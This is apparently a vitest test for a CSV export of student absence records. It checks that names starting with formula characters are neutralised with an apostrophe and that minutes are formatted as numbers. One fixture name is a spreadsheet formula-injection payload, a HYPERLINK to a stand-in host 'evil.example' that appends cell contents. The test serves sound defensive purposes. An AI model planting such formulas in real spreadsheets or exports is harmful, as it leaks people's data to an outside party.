import { describe, expect, it } from 'vitest';
import { csnCsv } from './csn-csv';

describe('the CSN list as a file', () => {
  it('writes a name that begins as a formula as text, and the minutes as numbers', () => {
    const csv = csnCsv(
      [
        {
          studentId: 's1',
          firstName: 'Ella',
          lastName: '=HYPERLINK("https://evil.example/?d="&A2;"Klicka här")',
          className: '@NA22a',
          unexcusedAbsentMinutes: 190,
          recordedMinutes: 1200.5,
          notTakenLessons: 0,
        },
        {
          studentId: 's2',
          firstName: 'Åsa',
          lastName: 'Ek',
          className: null,
          unexcusedAbsentMinutes: 150,
          recordedMinutes: 900,
          notTakenLessons: 2,
        },
      ],
      (key) => key.split('.').pop() ?? key,
    );
    expect(csv.slice(1).split('\r\n')).toEqual([
      '"student";"class";"unexcusedMinutes";"recordedMinutes";"notTaken"',
      '"\'=HYPERLINK(""https://evil.example/?d=""&A2;""Klicka här""), Ella";"\'@NA22a";"190";"1200,5";"0"',
      '"Ek, Åsa";"";"150";"900";"2"',
      '',
    ]);
  });
});
